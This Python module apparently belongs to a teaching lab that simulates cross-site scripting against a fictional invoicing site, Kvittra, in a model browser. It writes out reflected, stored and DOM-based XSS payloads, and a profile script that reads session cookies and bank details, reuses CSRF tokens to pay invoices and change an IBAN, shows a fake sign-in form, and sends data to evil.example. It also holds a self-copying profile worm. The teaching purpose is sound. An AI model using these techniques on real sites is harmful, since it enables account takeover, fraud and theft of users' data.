"""Attacks on Kvittra in the model browser: how the text arrives, what it can do, how it spreads.

The payloads call names that exist only here, bound to Python functions of this module. Outside
the model browser they do nothing.
"""

from __future__ import annotations

import random
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import quote, unquote_plus

from labs.arguments import whole
from labs.attacks.cross_site_scripting.model import HOME
from labs.browser import (
    Browser,
    Clock,
    Internet,
    Log,
    Response,
    Script,
    Tab,
    parse_document,
    static_site,
)
from labs.kvittra import create_app
from labs.kvittra.cast import STAFF, USERS
from labs.kvittra.seed import PASSWORDS

EVIL = "https://evil.example"
"""The attacker's own site."""

INJECTED = "<img src=x onerror=canary()>"
"""An image that is not there, and what to do about it."""

UNESCAPED = frozenset({"xss_reflected", "xss_stored", "xss_dom", "csp_missing"})
"""Kvittra with the three classic ways in open, and no policy."""

PROFILES = frozenset({"xss_rich_text", "csp_missing"})
"""Kvittra with profiles that are shown as they were written, and no policy."""

PEOPLE = tuple(person.id for person in (*USERS, *STAFF))
"""Everybody with a profile at Kvittra."""

_EMAILS = {person.id: person.email for person in (*USERS, *STAFF)}

MAX_VISITS = 400


class Service:
    """Kvittra and a hostile site, for people with browsers.

    Args:
        weaknesses: Names from ``labs.kvittra.WEAKNESSES``.
    """

    def __init__(self, weaknesses: Iterable[str] = ()) -> None:
        self.clock = Clock()
        self.app = create_app(weaknesses, clock=self.clock, seed=2005)
        self.internet = Internet()
        self.internet.add(HOME, self.app)
        # Any path would do; the attacker reads what is asked for.
        self.internet.add(EVIL, static_site({"/": "<h1>evil.example</h1>", "/keep": Response(204)}))

    def sign_in(self, user: str) -> Tab:
        """A browser of somebody who has just signed in."""
        tab = Browser(self.internet, clock=self.clock).open(f"{HOME}/sign-in")
        fields = {"email": _EMAILS[user], "password": PASSWORDS[user]}
        tab.submit('form[action="/sign-in"]', fields)
        return tab

    def asked(self, text: str) -> bool:
        """Whether Kvittra has been sent a text, in an address or in a form."""
        return any(
            text in unquote_plus(f"{one.request.url.target}&{one.request.body.decode()}")
            for one in self.internet.exchanges
            if str(one.request.url.origin) == HOME
        )


@dataclass(frozen=True)
class Arrival:
    """How one text arrived in somebody's page.

    Attributes:
        way: ``reflected``, ``stored`` or ``DOM-based``.
        carried: What carries the text.
        victim: Who has to do what.
        seen_by_server: Whether Kvittra was ever sent the text.
        ran: Whether it ran, with the authority of Kvittra's page.
        log: What the victim's browser decided about scripts.
    """

    way: str
    carried: str
    victim: str
    seen_by_server: bool
    ran: bool
    log: Log


def arrivals(weaknesses: Iterable[str] = UNESCAPED) -> list[Arrival]:
    """Try the three ways on an edition of Kvittra, each in one of its own."""
    weaknesses = frozenset(weaknesses)
    ways = (
        ("reflected", "a link in a mail, the text in the search", "Maja opens the link",
         f"/invoices?q={quote(INJECTED)}"),
        ("stored", "a note on invoice 1049", "Maja opens the invoice", "/invoices/1049"),
        ("DOM-based", "a link in a mail, the text behind the #", "Maja opens the link",
         f"/invoices/1049#{quote(INJECTED)}"),
    )  # fmt: skip
    found = []
    for way, carried, victim, path in ways:
        service = Service(weaknesses)
        if way == "stored":
            otto = service.sign_in("otto")
            otto.open(f"{HOME}/invoices/1049")
            otto.submit("#note-form", {"body": INJECTED})
        maja = service.sign_in("maja")
        maja.open(HOME + path)
        found.append(
            Arrival(
                way, carried, victim, service.asked(INJECTED),
                any(canary.origin == HOME for canary in maja.browser.canaries),
                maja.browser.log.only("script"),
            )
        )  # fmt: skip
    return found


DEEDS = (
    "read the session cookie",
    "read her invoices",
    "read her bank account",
    "mark an invoice as paid, with the right token",
    "show a false sign-in form at the true address",
    "send what it read to another site",
    "change the bank account, without her password",
)
"""What the script tries in Maja's page."""


def misuse(weaknesses: Iterable[str] = PROFILES) -> dict[str, bool]:
    """What a script in Siv's profile can do when Maja opens it.

    Args:
        weaknesses: The edition of Kvittra.

    Returns:
        For each of :data:`DEEDS`, whether it worked.
    """
    service = Service(weaknesses)
    done = dict.fromkeys(DEEDS, False)

    def act(script: Script) -> None:
        done[DEEDS[0]] = "session" in script.cookie
        done[DEEDS[1]] = "Kafé Åström" in script.fetch("/invoices").text
        bank = parse_document(script.fetch("/bank").text)
        account = bank.find("#iban")
        done[DEEDS[2]] = account is not None and account.text.startswith("SE00")
        # A page of the same site can read the token that keeps other sites out.
        token = _field(script.fetch("/invoices/1049").text, "csrf_token")
        paid = {"csrf_token": token, "paid": "yes"}
        script.fetch("/invoices/1049/pay", method="POST", fields=paid)
        done[DEEDS[3]] = (
            _value(service, "SELECT status FROM invoices WHERE number = 1049") == "paid"
        )
        form = '<h1>Sign in again</h1><form action="https://evil.example/keep"><input></form>'
        script.set_inner_html("main", form)
        done[DEEDS[4]] = "Sign in again" in script.page.text and script.origin == HOME
        script.fetch(f"{EVIL}/keep?read=invoices", mode="no-cors")
        done[DEEDS[5]] = any(
            one.request.url.target == "/keep?read=invoices" for one in service.internet.exchanges
        )
        other = {"csrf_token": token, "iban": "SE99 0000 0000 0666 0666 0666"}
        script.fetch("/bank", method="POST", fields=other)
        iban = _value(service, "SELECT iban FROM customers WHERE id = 'bergsbageri'")
        done[DEEDS[6]] = iban.startswith("SE99")

    service.internet.bind("act", act)
    _write_profile(service.sign_in("siv"), "<p>Sings alto.</p><img src=x onerror=act()>")
    service.sign_in("maja").open(f"{HOME}/people/siv")
    return done


def _field(page: str, name: str) -> str:
    field = parse_document(page).find(f'[name="{name}"]')
    return field.get("value") if field else ""


def _value(service: Service, query: str) -> str:
    return str(service.app.connection.execute(query).fetchone()[0])


def _write_profile(tab: Tab, about: str) -> None:
    tab.open(f"{HOME}/profile")
    tab.submit('form[action="/profile"]', {"about": about})


SPREADING = "<p>Siv sings best.</p><img src=x onerror=spread()>"
"""What the self-copying profile adds to each profile that it reaches."""


def copy_profile(script: Script) -> None:
    """What the script does in the page of a visitor: write itself into the visitor's own profile.

    It asks for the visitor's own form, which brings the token along, and sends it back with a
    longer text. Nothing here is stolen, and no cookie is read.
    """
    own = parse_document(script.fetch("/profile").text)
    about = own.find("textarea")
    if about is None or SPREADING in about.own_text:
        return
    markup = own.outer_html
    fields = {name: _field(markup, name) for name in ("csrf_token", "name", "website")}
    fields["about"] = about.own_text + SPREADING
    script.fetch("/profile", method="POST", fields=fields)


@dataclass(frozen=True)
class SpreadRun:
    """A self-copying profile at large in Kvittra.

    Attributes:
        people: People with a profile.
        bound: At how many carriers it stopped itself.
        carriers: Profiles that carry it, before the first visit and after each one.
        visits: Who visited whom.
        first: Who carried it first.
    """

    people: int
    bound: int
    carriers: tuple[int, ...]
    visits: tuple[tuple[str, str], ...]
    first: str


def spread_profile(
    visits: int = 120,
    *,
    bound: int = 15,
    weaknesses: Iterable[str] = PROFILES,
    seed: int = 2005,
) -> SpreadRun:
    """Let Siv's profile copy itself from visitor to visitor, up to a bound.

    At each visit one of Kvittra's people, drawn evenly, opens the profile of another.

    Args:
        visits: Visits, 0 to 400.
        bound: The script does nothing more when so many profiles carry it, 1 to 20.
        weaknesses: The edition of Kvittra.
        seed: Seeds who visits whom.

    Raises:
        TypeError: If ``visits``, ``bound`` or ``seed`` is no whole number.
        ValueError: If one is out of range.
    """
    whole("visits", visits, low=0, high=MAX_VISITS)
    whole("bound", bound, low=1, high=len(PEOPLE))
    rng = random.Random(whole("seed", seed))
    service = Service(weaknesses)

    def carriers() -> int:
        query = "SELECT count(*) FROM users WHERE about LIKE '%spread()%'"
        return int(_value(service, query))

    def spread(script: Script) -> None:
        if carriers() < bound:
            copy_profile(script)

    service.internet.bind("spread", spread)
    tabs: dict[str, Tab] = {"siv": service.sign_in("siv")}
    _write_profile(tabs["siv"], SPREADING)
    counts, met = [carriers()], []
    for _ in range(visits):
        visitor, host = rng.sample(PEOPLE, 2)
        if visitor not in tabs:
            tabs[visitor] = service.sign_in(visitor)
        tabs[visitor].open(f"{HOME}/people/{host}")
        met.append((visitor, host))
        counts.append(carriers())
    return SpreadRun(len(PEOPLE), bound, tuple(counts), tuple(met), "siv")
